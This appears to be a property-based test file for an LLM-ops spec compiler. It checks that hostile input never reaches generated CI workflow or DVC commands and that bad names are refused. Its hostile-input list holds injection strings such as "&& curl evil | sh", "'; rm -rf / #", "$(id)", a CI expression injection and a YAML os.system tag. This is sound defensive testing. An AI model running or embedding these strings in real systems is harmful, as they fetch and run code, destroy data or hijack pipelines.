"""Property test: mutated and hostile specs never crash the compiler with anything but an
llmops error, and no spec text reaches a workflow `run:` line or a DVC `cmd`."""

from __future__ import annotations

import copy
import re
import shlex
from pathlib import Path
from typing import Any

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from llmops.compiler.compile import compile_project
from llmops.compiler.parse import parse_project_file, parse_specs
from llmops.errors import LlmopsError

FULL = Path(__file__).resolve().parents[1] / "fixtures" / "projects" / "full"
PROJECT_TEXT = (FULL / "llmops.yaml").read_text()
SOURCES = {p.relative_to(FULL).as_posix(): p.read_text() for p in sorted((FULL / "specs").rglob("*.yaml"))}
_LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
DOCS = {path: yaml.load(text, Loader=_LOADER) for path, text in SOURCES.items()}

HOSTILE = [
    "$(id)",
    "`id`",
    "'; rm -rf / #",
    '"quoted"',
    "${{ github.event.pull_request.title }}",
    "${HOME}",
    "line\nbreak: true",
    "x" * 5000,
    "ünïcødé ✓ 𝔘",
    "&& curl evil | sh",
    "{{ 7*7 }}",
    "\u202eevil",
]
hostile_text = st.one_of(
    st.sampled_from(HOSTILE), st.text(max_size=60), st.sampled_from(HOSTILE).map(lambda s: "ok-" + s)
)
values = st.one_of(
    hostile_text,
    st.integers(min_value=-(10**12), max_value=10**12),
    st.floats(allow_nan=True),
    st.booleans(),
    st.none(),
    st.lists(hostile_text, max_size=3),
    st.dictionaries(hostile_text, hostile_text, max_size=2),
)


def _paths(node: Any, prefix: tuple = ()) -> list[tuple]:
    found = [prefix]
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, prefix + (key,))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            found += _paths(value, prefix + (i,))
    return found


def _set(doc: Any, path: tuple, value: Any, action: str) -> Any:
    if not path:
        return value if action == "replace" else doc
    parent = doc
    for part in path[:-1]:
        parent = parent[part]
    if action == "delete":
        del parent[path[-1]]
    elif action == "add-key" and isinstance(parent, dict):
        parent[str(value)[:40]] = value
    else:
        parent[path[-1]] = value
    return doc


def _project():
    project_file, errors = parse_project_file(PROJECT_TEXT)
    assert project_file is not None and not errors
    return project_file


def _check_outputs(files: dict[str, str]) -> None:
    for path, text in files.items():
        if path.startswith(".github/workflows/"):
            workflow = yaml.load(text, Loader=_LOADER)
            for job in workflow["jobs"].values():
                for step in job.get("steps", []):
                    run = step.get("run", "")
                    assert "${{" not in run, (path, run)
                    for marker in HOSTILE:
                        assert marker not in run, (path, run)
        if path == "dvc.yaml":
            for name, stage in (yaml.load(text, Loader=_LOADER)["stages"] or {}).items():
                if "matrix" in stage:  # a sweep: DVC puts each trial's key where ${key} is
                    assert shlex.split(stage["cmd"]) == ["llmops", "run", name + "@${key}"]
                    for values in stage["matrix"].values():
                        assert all(_safe_sweep_value(v) for v in values), values
                else:
                    assert shlex.split(stage["cmd"]) == ["llmops", "run", name]


def _safe_sweep_value(value: Any) -> bool:
    if isinstance(value, str):
        return re.fullmatch(r"[A-Za-z0-9_.+-]{1,64}", value) is not None
    return isinstance(value, (bool, int, float)) and value == value and abs(value) != float("inf")


def _compile(sources: dict[str, str]) -> None:
    try:
        compiled = compile_project(parse_specs(_project(), sources))
    except LlmopsError:
        return
    _check_outputs(compiled.files)


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_mutated_documents(data):
    path = data.draw(st.sampled_from(sorted(DOCS)))
    doc = copy.deepcopy(DOCS[path])
    target = data.draw(st.sampled_from(_paths(doc)))
    action = data.draw(st.sampled_from(["replace", "delete", "add-key"]))
    doc = _set(doc, target, data.draw(values), action)
    try:
        text = yaml.safe_dump(doc, allow_unicode=True)
    except yaml.YAMLError:
        return
    _compile({**SOURCES, path: text})


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_mutated_text(data):
    path = data.draw(st.sampled_from(sorted(SOURCES)))
    text = SOURCES[path]
    at = data.draw(st.integers(min_value=0, max_value=len(text)))
    cut = data.draw(st.integers(min_value=0, max_value=20))
    insert = data.draw(
        st.one_of(
            hostile_text,
            st.sampled_from([":", "- ", "\t", "&a", "*a", "!!python/object:os.system", "{", "<<<<<<< x\n"]),
        )
    )
    _compile({**SOURCES, path: text[:at] + insert + text[at + cut :]})


@settings(deadline=None)
@given(text=hostile_text)
def test_hostile_free_text_compiles_and_stays_out_of_commands(text):
    doc = copy.deepcopy(DOCS["specs/models/tiny-base.yaml"])
    doc["description"] = text
    doc["tags"] = {"team": text}
    compiled = compile_project(
        parse_specs(_project(), {**SOURCES, "specs/models/tiny-base.yaml": yaml.safe_dump(doc)})
    )
    _check_outputs(compiled.files)
    # the text never shows up in a workflow or dvc.yaml (unless those hold it anyway, like "base")
    for path, out in compiled.files.items():
        if path.endswith((".yml", "dvc.yaml")) and len(text) > 3:
            assert text not in out or text in BASELINE_FILES[path]


BASELINE_FILES = compile_project(parse_specs(_project(), SOURCES)).files


sweep_values = st.one_of(
    hostile_text,
    st.integers(min_value=-(10**6), max_value=10**6),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.none(),
    st.sampled_from(["1e5", "true", "null", "a-b", "0x1F", "1.0", ".inf", "~", "ok_1.5+x"]),
)


VALID_SWEEPS = {
    "training.lr": st.floats(min_value=1e-12, max_value=0.9),
    "method.r": st.integers(min_value=1, max_value=1024),
    "method.type": st.sampled_from(["lora", "qlora", "prompt-tuning", "full"]),
    "training.scheduler": st.sampled_from(["linear", "cosine", "constant"]),
    "training.packing": st.booleans(),
    "training.epochs": st.one_of(st.integers(1, 10), st.floats(min_value=0.01, max_value=1e6)),
}


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_hostile_sweep_values_are_refused_or_named_as_dvc_names_them(data):
    paths = data.draw(st.lists(st.sampled_from([*VALID_SWEEPS, "training.nope"]), min_size=1, max_size=3))
    parameters = {}
    for path in paths:
        hostile = data.draw(st.integers(0, 3)) == 0 or path not in VALID_SWEEPS
        element = sweep_values if hostile else VALID_SWEEPS[path]
        parameters[path] = data.draw(st.lists(element, min_size=int(not hostile), max_size=4, unique_by=str))
    doc = copy.deepcopy(DOCS["specs/models/big.yaml"])
    doc["sweep"]["parameters"] = parameters
    try:
        compiled = compile_project(
            parse_specs(_project(), {**SOURCES, "specs/models/big.yaml": yaml.safe_dump(doc)})
        )
    except LlmopsError:
        return
    _check_outputs(compiled.files)
    trials = [s.name for s in compiled.graph.order if s.matrix and s.matrix.group == "trial-big"]
    assert sorted(trials) == sorted(dvc_matrix_names(compiled.files["dvc.yaml"])["trial-big"])


def dvc_matrix_names(dvc_yaml: str) -> dict[str, list[str]]:
    """The names DVC gives the trials of each `matrix` stage, computed with DVC's own YAML loader
    and value formatting (the same steps as `dvc.parsing.MatrixDefinition`)."""
    import itertools

    from dvc.parsing.interpolate import to_str
    from dvc.utils.serialize import parse_yaml

    names = {}
    for group, stage in parse_yaml(dvc_yaml, "dvc.yaml")["stages"].items():
        if "matrix" in stage:
            combos = itertools.product(*stage["matrix"].values())
            names[group] = [f"{group}@" + "-".join(to_str(v) for v in combo) for combo in combos]
    return names


def test_hostile_names_are_rejected_with_a_position():
    for bad in ["$(id)", "a`b`", "x; rm", "${{ github.event.x }}", "A" * 70, "naïve"]:
        doc = copy.deepcopy(DOCS["specs/data/tickets.yaml"])
        doc["name"] = bad
        try:
            compile_project(
                parse_specs(_project(), {**SOURCES, "specs/data/tickets.yaml": yaml.safe_dump(doc)})
            )
        except LlmopsError as exc:
            assert "specs/data/tickets.yaml:" in str(exc) and "name:" in str(exc)
        else:
            raise AssertionError(f"name {bad!r} was accepted")
